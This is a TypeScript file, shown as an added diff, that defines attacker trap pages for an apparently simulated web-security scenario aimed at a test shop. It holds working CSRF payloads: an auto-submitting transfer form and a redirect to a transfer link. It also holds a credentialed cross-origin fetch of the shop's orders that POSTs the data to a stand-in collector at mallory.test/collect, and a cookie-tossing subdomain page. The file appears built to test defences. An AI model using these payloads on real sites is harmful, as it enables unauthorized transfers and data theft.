@@ -1,0 +1,61 @@
+/** Mallory's own web site, https://mallory.test, and blog.shop.test, a subdomain of the shop that he took over. */
+import type { Page } from '../browser/index.ts'
+import type { Trap } from '../scenario/index.ts'
+
+export const MALLORY = 'https://mallory.test'
+export const SIBLING = 'https://blog.shop.test'
+const SHOP = 'https://shop.test'
+
+/** Where his scripts send what they find. */
+export const COLLECT = `${MALLORY}/collect`
+
+/** A page that does something by itself when it is opened. */
+export interface TrapPage {
+  readonly url: string
+  readonly html: string
+  /** What its script does in the browser of whoever opened it. */
+  readonly script: (page: Page) => Promise<unknown>
+}
+
+const loadedScript = (text: string) => `<!doctype html><title>Win a holiday!</title>\n${text}`
+
+const transferForm = loadedScript(`<form method="post" action="${SHOP}/transfer">
+  <input name="to" value="mallory"><input name="amount" value="900">
+</form>
+<script>document.forms[0].submit()</script>`)
+
+const submitTransfer = (page: Page) =>
+  page.submit({ action: `${SHOP}/transfer`, method: 'POST', fields: { to: 'mallory', amount: '900' } })
+
+const transferLink = `${SHOP}/transfer?to=mallory&amount=900`
+
+async function readAcrossOrigins(page: Page): Promise<void> {
+  const answer = await page.fetch(`${SHOP}/orders`, { credentials: 'include' })
+  if (answer.readable && answer.status === 200) {
+    await page.fetch(COLLECT, { method: 'POST', mode: 'no-cors', body: answer.body })
+  }
+}
+
+export const trapPages: Readonly<Record<Trap, TrapPage>> = {
+  'form-post': { url: `${MALLORY}/holiday`, html: transferForm, script: submitTransfer },
+
+  'sibling-form-post': { url: `${SIBLING}/holiday`, html: transferForm, script: submitTransfer },
+
+  'link-get': {
+    url: `${MALLORY}/link`,
+    html: loadedScript(`<script>location = '${transferLink}'</script>`),
+    script: (page) => page.navigate(transferLink),
+  },
+
+  'cross-origin-read': {
+    url: `${MALLORY}/read`,
+    html: loadedScript(`<script type="module">
+const answer = await fetch('${SHOP}/orders', { credentials: 'include' })
+await fetch('${COLLECT}', { method: 'POST', mode: 'no-cors', body: await answer.text() })
+</script>`),
+    script: readAcrossOrigins,
+  },
+
+  /** The answer itself is the attack: its Set-Cookie is for the whole of shop.test. */
+  'cookie-toss': { url: `${SIBLING}/toss`, html: loadedScript('<p>Nothing to see here.</p>'), script: async () => {} },
+}
